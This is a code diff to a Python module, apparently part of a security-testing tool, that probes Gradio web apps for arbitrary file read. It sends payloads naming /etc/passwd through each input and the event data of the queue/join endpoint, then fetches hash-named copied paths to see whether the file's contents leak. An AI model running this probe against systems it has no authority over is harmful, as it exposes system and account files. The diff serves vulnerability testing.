@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import json
 import re
 from collections.abc import Iterator
 from typing import Any
@@ -17,7 +16,8 @@ from ui.web.attack.target import Target
 _FILE = "/etc/passwd"
 _IN_FILE = "root:"
 _META = {"_type": "gradio.FileData"}
-_PATH = re.compile(r'"path": ?"([^"]+)"')
+_COPIED = re.compile(r"""[^\s"'\\=]*/[0-9a-f]{64}/[^\s"'\\&<]+""")
+"""Where Gradio keeps what it copied for a page: a folder named after a hash."""
 
 
 def file_payloads(path: str) -> dict[str, Any]:
@@ -51,18 +51,21 @@ def files(target: Target) -> Iterator[Attempt]:
 def _through_event(client: httpx.Client, event: PageEvent, role: str) -> Iterator[Attempt]:
     door = f"POST {event.page}/gradio_api/queue/join ({role})"
     for name, payload in file_payloads(_FILE).items():
-        data = [payload] * event.inputs
-        status, told = send_event(client, event, data, event_data=payload)
-        yield Attempt(door, f"event {event.index}: {name}", *_held(client, event.page, status, told))
+        for position in range(len(event.values)):
+            data = [*event.values[:position], payload, *event.values[position + 1 :]]
+            attack = f"event {event.index}, input {position}: {name}"
+            yield Attempt(door, attack, *_held(client, event.page, *send_event(client, event, data)))
+        status, told = send_event(client, event, list(event.values), event_data=payload)
+        attack = f"event {event.index}, event data: {name}"
+        yield Attempt(door, attack, *_held(client, event.page, status, told))
 
 
 def _held(client: httpx.Client, page: str, status: int, told: str) -> tuple[bool, str]:
     """Whether nothing of the file came back, neither at once nor behind any path that was told."""
     if _IN_FILE in told:
         return False, told
-    for path in set(_PATH.findall(told)):
-        named = quote(json.loads(f'"{path}"'))
-        reply = client.get(f"{page}/gradio_api/file={named}")
+    for path in set(_COPIED.findall(told)):
+        reply = client.get(f"{page}/gradio_api/file={quote(path)}")
         if _IN_FILE in reply.text:
             return False, f"{path} was served"
     return True, f"{status} {told[:80]}"
